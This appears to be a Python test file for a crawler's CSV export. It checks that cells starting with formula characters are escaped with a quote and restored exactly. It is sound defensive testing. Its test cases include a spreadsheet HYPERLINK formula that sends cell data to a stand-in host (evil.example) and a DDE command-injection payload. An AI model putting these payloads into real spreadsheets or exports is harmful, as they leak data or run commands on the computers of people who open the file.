"""CSV files that are opened in a spreadsheet: no text of a page is computed, and every text is restored."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from strider.cli.crawl.csv_cells import guard_cell, read_rows, restore_cell

pytestmark = pytest.mark.fault("A11", part="formulas")

BEGINNINGS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20'"
TEXTS = st.builds(
    str.__add__,
    st.text(st.sampled_from(BEGINNINGS), max_size=3),
    st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"])),
)


@given(TEXTS)
def test_a_guarded_cell_is_no_formula_and_is_restored(text: str) -> None:
    cell = guard_cell(text)

    assert isinstance(cell, str)
    assert cell[:1] not in {*BEGINNINGS} - {"'"} or float(cell) is not None
    assert restore_cell(cell) == text


@given(st.integers() | st.floats() | st.none() | st.booleans())
def test_numbers_stay_numbers(value: object) -> None:
    assert guard_cell(value) is value


@pytest.mark.parametrize("text", ["-5", "+1.5", "-1.2e-3"])
def test_texts_of_numbers_stay_numbers(text: str) -> None:
    assert guard_cell(text) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"ok")', '\'=HYPERLINK("http://evil.example/?"&A1,"ok")'),
        ("@SUM(1)", "'@SUM(1)"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("\t=1", "'\t=1"),
        ("'=1", "''=1"),
        ("plain 'quoted'", "plain 'quoted'"),
        ("", ""),
    ],
)
def test_what_stands_in_the_file(text: str, cell: str) -> None:
    assert guard_cell(text) == cell


@given(st.lists(st.dictionaries(st.sampled_from(["url", "title"]), TEXTS, min_size=2), max_size=5))
def test_a_file_gives_back_what_was_written(rows: list[dict[str, str]]) -> None:
    """Written and read by the csv module, with the cells of ours."""
    file = io.StringIO(newline="")
    writer = csv.writer(file)
    writer.writerow(["url", "title"])
    writer.writerows([guard_cell(row[name]) for name in ("url", "title")] for row in rows)
    file.seek(0)

    assert list(read_rows(file)) == [{name: row[name] for name in ("url", "title")} for row in rows]
